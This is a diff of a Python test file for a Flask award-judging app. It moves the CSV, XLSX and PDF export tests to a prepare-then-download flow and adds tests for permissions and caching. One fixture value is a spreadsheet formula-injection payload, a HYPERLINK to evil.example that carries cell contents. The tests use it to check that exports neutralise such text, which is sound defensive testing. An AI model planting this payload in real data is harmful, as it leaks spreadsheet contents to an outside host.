@@ -7,11 +7,14 @@ import pytest
 from flask_babel import force_locale, gettext
 from openpyxl import load_workbook
 from pypdf import PdfReader
-from sqlalchemy import select
+from sqlalchemy import func, select
 
+from app.extensions import db
 from app.judging.models import CriterionScore, ScoreSheet
+from app.prepared.models import PreparedFile
 from app.ranking import deliberation
 from app.ranking.exports import FONTS_DIR, ReportFetcher, ReportFileRefused, neutralise
+from app.ranking.prepared import ranking_stamp
 from app.ranking.scores import load_scores
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -30,8 +33,28 @@ def hostile(small, db):
     return small
 
 
-def export_url(small, name: str) -> str:
-    return f"/manage/editions/{small.edition.id}/{name}"
+KINDS = {
+    "ranking.csv": "ranking_csv",
+    "ranking.xlsx": "ranking_xlsx",
+    "sheets.csv": "sheets_csv",
+    "sheets.xlsx": "sheets_xlsx",
+    "jury-report.pdf": "jury_report",
+}
+
+
+def prepare(auth, small, name: str, method: str = "", headers: dict | None = None):
+    """Ask for a file as the ranking page's button does (it is made at once: JOBS_EAGER)."""
+    url = f"/manage/editions/{small.edition.id}/files"
+    data = {"kind": KINDS[name], "method": method}
+    form_url = f"/manage/editions/{small.edition.id}/ranking"
+    return auth.post(url, data, form_url=form_url, headers=headers or {})
+
+
+def download(auth, small, name: str, method: str = "", headers: dict | None = None):
+    """The file, asked for and then downloaded from the link the ranking page offers."""
+    assert prepare(auth, small, name, method, headers).status_code == 302
+    file_id = db.session.scalar(select(PreparedFile.id).order_by(PreparedFile.id.desc()))
+    return auth.client.get(f"/manage/editions/{small.edition.id}/files/{file_id}", buffered=True)
 
 
 def read_csv(response) -> list[list[str]]:
@@ -61,13 +84,12 @@ def test_neutralise_formula_like_text_only(value, expected):
 def test_ranking_csv_content_and_neutralised_name(client, auth, hostile):
     auth.login(hostile.organiser.email)
 
-    response = client.get(export_url(hostile, "ranking.csv"))
+    response = download(auth, hostile, "ranking.csv")
 
     assert response.status_code == 200
     assert response.mimetype == "text/csv"
     assert (
-        response.headers["Content-Disposition"]
-        == f'attachment; filename="{hostile.edition.slug}-ranking.csv"'
+        response.headers["Content-Disposition"] == f"attachment; filename={hostile.edition.slug}-ranking.csv"
     )
     rows = read_csv(response)
     assert rows[0][:9] == [
@@ -109,7 +131,7 @@ def test_ranking_csv_content_and_neutralised_name(client, auth, hostile):
 def test_ranking_csv_under_another_method(client, auth, small):
     auth.login(small.organiser.email)
 
-    rows = read_csv(client.get(export_url(small, "ranking.csv") + "?method=median"))
+    rows = read_csv(download(auth, small, "ranking.csv", method="median"))
 
     assert rows[0][4] == "Aggregate (median)"
     assert [row[2] for row in rows[1:4]] == ["Obrnice", "Ηράκλειο", "Demo Municipality 4"]
@@ -118,7 +140,7 @@ def test_ranking_csv_under_another_method(client, auth, small):
 def test_sheets_csv_lists_every_sheet_and_neutralises_comments(client, auth, hostile):
     auth.login(hostile.organiser.email)
 
-    rows = read_csv(client.get(export_url(hostile, "sheets.csv")))
+    rows = read_csv(download(auth, hostile, "sheets.csv"))
 
     header = rows[0]
     assert header[:9] == [
@@ -149,7 +171,7 @@ def test_sheets_csv_lists_every_sheet_and_neutralises_comments(client, auth, hos
 def test_ranking_xlsx_keeps_formula_as_text(client, auth, hostile):
     auth.login(hostile.organiser.email)
 
-    response = client.get(export_url(hostile, "ranking.xlsx"))
+    response = download(auth, hostile, "ranking.xlsx")
 
     assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     sheet = load_workbook(io.BytesIO(response.get_data())).active
@@ -165,7 +187,7 @@ def test_ranking_xlsx_keeps_formula_as_text(client, auth, hostile):
 def test_sheets_xlsx_keeps_comment_as_text(client, auth, hostile):
     auth.login(hostile.organiser.email)
 
-    sheet = load_workbook(io.BytesIO(client.get(export_url(hostile, "sheets.xlsx")).get_data())).active
+    sheet = load_workbook(io.BytesIO(download(auth, hostile, "sheets.xlsx").get_data())).active
 
     values = [cell.value for row in sheet.iter_rows() for cell in row]
     assert sheet.title == "Score sheets"
@@ -189,7 +211,7 @@ def test_jury_report_pdf_holds_ranking_decisions_and_justification(client, auth,
     db.session.commit()
     auth.login(small.organiser.email)
 
-    response = client.get(export_url(small, "jury-report.pdf"))
+    response = download(auth, small, "jury-report.pdf")
 
     assert response.status_code == 200
     assert response.mimetype == "application/pdf"
@@ -210,7 +232,7 @@ def test_jury_report_pdf_holds_ranking_decisions_and_justification(client, auth,
 def test_jury_report_fonts_embedded_from_app(client, auth, small):
     auth.login(small.organiser.email)
 
-    reader = PdfReader(io.BytesIO(client.get(export_url(small, "jury-report.pdf")).get_data()))
+    reader = PdfReader(io.BytesIO(download(auth, small, "jury-report.pdf").get_data()))
 
     fonts = set()
     for page in reader.pages:
@@ -248,7 +270,7 @@ def test_jury_report_is_a_tagged_pdf_ua_document_in_the_page_language(
     db.session.commit()
     auth.login(small.organiser.email)
 
-    response = client.get(export_url(small, "jury-report.pdf"), headers={"Accept-Language": accept})
+    response = download(auth, small, "jury-report.pdf", headers={"Accept-Language": accept})
 
     reader = PdfReader(io.BytesIO(response.get_data()))
     root = reader.trailer["/Root"]
@@ -264,15 +286,22 @@ def test_jury_report_is_a_tagged_pdf_ua_document_in_the_page_language(
 
 @pytest.mark.parametrize("name", EXPORTS)
 def test_exports_refused_to_non_organisers(client, auth, small, name):
-    anonymous = client.get(export_url(small, name))
+    auth.login(small.organiser.email)
+    url = download(auth, small, name).request.url
+    auth.logout()
+    token = auth.csrf()
+    ask = f"/manage/editions/{small.edition.id}/files"
+    anonymous = [client.get(url).status_code, client.post(ask, data={"csrf_token": token}).status_code]
     statuses = []
     for user in (small.applicants["A"], small.jurors["one"], small.jurors["two"]):
         auth.login(user.email)
-        statuses.append(client.get(export_url(small, name)).status_code)
+        data = {"kind": KINDS[name], "csrf_token": auth.csrf("/account")}
+        statuses += [client.get(url).status_code, client.post(ask, data=data).status_code]
         auth.logout()
 
-    assert anonymous.status_code == 302
-    assert statuses == [403, 403, 403]
+    assert anonymous == [302, 302]
+    assert statuses == [403] * 6
+    assert db.session.scalar(select(func.count(PreparedFile.id))) == 1
 
 
 @pytest.mark.parametrize(
@@ -304,7 +333,7 @@ def test_jury_report_hostile_organisation_name_is_text(client, auth, small, db):
     db.session.commit()
     auth.login(small.organiser.email)
 
-    pdf = client.get(export_url(small, "jury-report.pdf")).get_data()
+    pdf = download(auth, small, "jury-report.pdf").get_data()
 
     reader = PdfReader(io.BytesIO(pdf))
     text = " ".join(page.extract_text() for page in reader.pages)
@@ -336,7 +365,7 @@ def test_jury_report_in_french_gives_the_texts_in_french_and_marks_the_others(cl
     db.session.commit()
     auth.login(small.organiser.email)
 
-    response = client.get(export_url(small, "jury-report.pdf"))
+    response = download(auth, small, "jury-report.pdf")
 
     text = _report_text(response)
     assert "Prix d’essai ·" in text
@@ -345,3 +374,44 @@ def test_jury_report_in_french_gives_the_texts_in_french_and_marks_the_others(cl
     assert "Heraklion fights illiteracy. (en anglais uniquement)" in text
     assert "Strasbourg, 25th session (en anglais uniquement)" in text
     assert PdfReader(io.BytesIO(response.data)).trailer["/Root"].get("/Lang") == "fr"
+
+
+def test_export_asked_twice_is_made_once_until_a_sheet_changes(client, auth, small, db):
+    auth.login(small.organiser.email)
+    prepare(auth, small, "sheets.xlsx")
+    prepare(auth, small, "sheets.xlsx")
+    assert db.session.scalar(select(func.count(PreparedFile.id))) == 1
+
+    sheet = db.session.scalars(select(ScoreSheet)).first()
+    sheet.overall_comment = "Revised after the hearing."
+    db.session.commit()
+    page = client.get(f"/manage/editions/{small.edition.id}/ranking").get_data(as_text=True)
+    prepare(auth, small, "sheets.xlsx")
+
+    assert "Score sheets (XLSX): the data has changed since it was prepared" in page
+    assert db.session.scalar(select(func.count(PreparedFile.id))) == 2
+
+
+def test_ranking_stamp_does_not_depend_on_the_page_language(app, small):
+    stamps = []
+    for language in ("en", "fr"):
+        with app.test_request_context(), force_locale(language):
+            stamps.append(ranking_stamp(small.edition.id, {}))
+
+    assert stamps[0] == stamps[1]
+
+
+def test_prepare_an_unknown_kind_or_method_changes_nothing(client, auth, small, db):
+    auth.login(small.organiser.email)
+
+    unknown_kind = auth.post(
+        f"/manage/editions/{small.edition.id}/files",
+        {"kind": "everything"},
+        form_url=f"/manage/editions/{small.edition.id}/ranking",
+        follow_redirects=True,
+    )
+    unknown_method = prepare(auth, small, "ranking.csv", method="coin-toss")
+
+    assert "This file cannot be prepared" in unknown_kind.get_data(as_text=True)
+    assert unknown_method.status_code == 302
+    assert db.session.scalar(select(func.count(PreparedFile.id))) == 0
